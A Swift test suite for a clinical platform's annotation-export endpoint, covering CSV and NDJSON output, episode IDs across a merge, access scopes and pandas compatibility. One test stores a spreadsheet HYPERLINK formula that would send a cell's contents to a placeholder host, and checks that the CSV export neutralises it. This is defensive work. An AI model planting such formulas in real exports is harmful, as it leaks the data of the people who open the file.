import PhysioClient
import PhysioCore
import PhysioHTTP
import PhysioStore
import PhysioTestSupport
import Testing
import PhysioPlatform

/// `GET /exports/annotations`: the audit trail as CSV or NDJSON, each action
/// with the episode that holds it now and the episode as it was reviewed.
@Suite(.enabled(if: TestDatabase.isConfigured, "\(TestDatabase.skipMessage)"))
struct ReviewExportTests {
    static let start: Int64 = 1_795_600_000
    static let header = "action_id,case_id,episode_id,episode_start,episode_end,action,verdict,reason,note,reviewer,at,reviewed_episode_id,reviewed_start,reviewed_end,episode_source,episode_rules,acknowledged_alarms"

    func export(_ server: TestServer, _ path: String, scope: String = "export") throws -> HTTPClient.Response {
        try server.client().get(path, headers: [server.bearer(scope)])
    }

    /// Two cases reviewed; then the first case's episode is back-dated by a
    /// worker's merge (through the store, as the worker applies it).
    func reviewed(_ server: TestServer) throws -> (model: Int64, first: Int64, merged: Int64) {
        let model = try TestModels.register(on: server.database)
        let first = try server.episode("exp-a", start: Self.start + 60, end: Self.start + 120, modelID: model)
        let second = try server.episode("exp-b", start: Self.start, end: Self.start + 30, modelID: model)
        #expect(try server.review("exp-a", first, "acknowledge").status == 201)
        #expect(try server.review("exp-a", first, "annotate", #"{"verdict":"artefact","reason":"line_flush","note":"flush, \"square\" wave"}"#).status == 201)
        #expect(try server.review("exp-b", second, "annotate", #"{"verdict":"true_alarm"}"#, scope: "admin").status == 201)
        let stored = Episode(caseID: "exp-a", start: (Self.start + 60) * 1_000_000, end: (Self.start + 120) * 1_000_000, peakScore: 0.71,
                             peakTime: (Self.start + 60) * 1_000_000, vitals: [], rules: [])
        // A sample 30 s before it: the builder back-dates the episode (a new start, so a new row).
        let changes = EpisodeBuilder().merge(caseID: "exp-a", existing: [stored],
                                             points: [AnomalyPoint(timestamp: (Self.start + 30) * 1_000_000, score: 0.7)])
        #expect(changes.deleted == [stored])
        let connection = try server.database.connect()
        try connection.transaction { try EpisodeStore().apply(changes, modelID: model, on: connection) }
        let merged = Int64(try server.database.scalar("SELECT id FROM anomaly_episodes WHERE case_id = 'exp-a'")!)!
        #expect(merged != first)
        return (model, first, merged)
    }

    @Test func csvNamesTheEpisodeNowAndAsReviewed() throws {
        let server = try TestServer()
        let (_, first, merged) = try reviewed(server)
        let response = try export(server, "/exports/annotations")
        #expect(response.status == 200, "\(response.text)")
        #expect(response.header("Content-Type") == "text/csv; charset=utf-8")
        #expect(response.header("Content-Disposition")?.contains("annotations.csv") == true)
        let lines = response.text.split(separator: "\n").map(String.init)
        #expect(lines.first == Self.header)
        #expect(lines.count == 4, "\(response.text)")
        let time = { (seconds: Int64) in Timestamp.format(seconds * 1_000_000, fixedMicros: true) }
        #expect(lines[1].hasPrefix("1,exp-a,\(merged),\(time(Self.start + 30)),\(time(Self.start + 120)),acknowledge,,,,test-review,"), "\(lines[1])")
        // Then what raised the episode that holds it now, the rules it crossed (none: an empty string, not null),
        // and the alarms the acknowledgement covers (none raised: empty, not null).
        #expect(lines[1].hasSuffix(",\(first),\(time(Self.start + 60)),\(time(Self.start + 120)),model,\"\",\"\""), "\(lines[1])")
        #expect(lines[2].contains(#",annotate,artefact,line_flush,"flush, ""square"" wave",test-review,"#), "\(lines[2])")
        #expect(lines[3].hasPrefix("3,exp-b,"), "\(lines[3])")
        #expect(lines[3].hasSuffix(",model,sbp_lt_80,"), "an annotation covers no alarm: \(lines[3])")
        #expect(lines[3].contains(",annotate,true_alarm,,,test-admin,"), "\(lines[3])")

        let one = try export(server, "/exports/annotations?case=exp-b")
        #expect(one.text.split(separator: "\n").count == 2)
        #expect(one.header("Content-Disposition")?.contains("annotations-exp-b.csv") == true)
        let future = try export(server, "/exports/annotations?from=2100-01-01T00:00:00Z")
        #expect(future.text.split(separator: "\n").map(String.init) == [Self.header])
        #expect(try export(server, "/exports/annotations", scope: "read").status == 403)
        #expect(try export(server, "/exports/annotations?granularity=episode").status == 400)
    }

    /// A note a spreadsheet would run as a formula gets a leading ' in CSV
    /// (until 2026-12-07 it went as typed: an outside security audit);
    /// NDJSON keeps it as typed, and a note that only contains = is untouched.
    @Test func aNoteThatLooksLikeAFormulaIsQuotedInCSV() throws {
        let server = try TestServer()
        let model = try TestModels.register(on: server.database)
        let episode = try server.episode("exp-f", start: Self.start, end: Self.start + 30, modelID: model)
        let formula = #"=HYPERLINK(\"http://example.invalid/?d=\"&A2,\"see protocol\")"#
        #expect(try server.review("exp-f", episode, "annotate", #"{"verdict":"true_alarm","note":"\#(formula)"}"#).status == 201)
        #expect(try server.review("exp-f", episode, "annotate", #"{"verdict":"artefact","note":"MAP 60 = flush"}"#).status == 201)
        let csv = try export(server, "/exports/annotations?case=exp-f").text
        #expect(csv.contains(#","'=HYPERLINK(""http://example.invalid/?d=""&A2,""see protocol"")","#), "\(csv)")
        #expect(csv.contains(",MAP 60 = flush,"), "\(csv)")
        let ndjson = try export(server, "/exports/annotations?case=exp-f&format=ndjson").text
        #expect(ndjson.contains(#""note":"=HYPERLINK(\"http"#), "\(ndjson)")
    }

    @Test func ndjsonHasOneObjectPerAction() throws {
        let server = try TestServer()
        let (_, first, merged) = try reviewed(server)
        let response = try export(server, "/exports/annotations?format=ndjson&case=exp-a")
        #expect(response.status == 200)
        #expect(response.header("Content-Type") == "application/x-ndjson")
        let lines = response.text.split(separator: "\n")
        #expect(lines.count == 2)
        let annotationLine = try JSONDocument.parse(Array(lines[1].utf8)).get()
        let annotation = annotationLine.value
        #expect(annotation["action"]?.string == "annotate")
        #expect(annotation["episode_id"]?.number == Double(merged))
        #expect(annotation["reviewed_episode_id"]?.number == Double(first))
        #expect(annotation["note"]?.string == #"flush, "square" wave"#)
        #expect(annotation["reviewer"]?.string == "test-review")
        #expect(annotation["verdict"]?.string == "artefact")
        #expect(annotation["at"]?.string.flatMap(Timestamp.parseRFC3339) != nil)
        // What raised the episode that holds it now, and the rules it crossed (the merged row crossed none).
        #expect(annotation["episode_source"]?.string == "model")
        #expect(annotation["episode_rules"]?.kind == .array)
        #expect(annotation["episode_rules"]?.count == 0)
        let other = try export(server, "/exports/annotations?format=ndjson&case=exp-b")
        #expect(other.text.hasSuffix(#","episode_source":"model","episode_rules":["sbp_lt_80"],"acknowledged_alarms":null}"# + "\n"), "\(other.text)")
        let acknowledgementLine = try JSONDocument.parse(Array(lines[0].utf8)).get()
        #expect(acknowledgementLine.value["verdict"]?.kind == .null)
        withExtendedLifetime(annotationLine) {}
    }

    @Test(.enabled(if: PythonScript.isAvailable, "\(PythonScript.skipMessage)"))
    func pandasReadsTheAnnotations() throws {
        let server = try TestServer()
        let (_, _, merged) = try reviewed(server)
        let script = """
            import pandas as pd
            auth = {"Authorization": "Bearer \(server.tokens["export"]!)"}
            url = "http://127.0.0.1:\(server.port)/exports/annotations"
            csv = pd.read_csv(url, storage_options=auth, dtype={"case_id": str}, parse_dates=["episode_start", "episode_end", "at", "reviewed_start", "reviewed_end"])
            lines = pd.read_json(url + "?format=ndjson", storage_options=auth, lines=True, dtype={"case_id": str})
            assert len(csv) == 3 and len(lines) == 3, (len(csv), len(lines))
            assert list(csv.columns) == list(lines.columns), (list(csv.columns), list(lines.columns))
            assert str(csv["at"].dt.tz) == "UTC"
            assert csv["episode_id"].tolist()[:2] == [\(merged), \(merged)], csv["episode_id"].tolist()
            verdicts = csv[csv["action"] == "annotate"].set_index("case_id")["verdict"].to_dict()
            assert verdicts == {"exp-a": "artefact", "exp-b": "true_alarm"}, verdicts
            assert csv["note"].iloc[1] == 'flush, "square" wave'
            print("ok")
            """
        let output = try PythonScript.run(script)
        #expect(output.hasSuffix("ok\n"), "\(output)")
    }
}
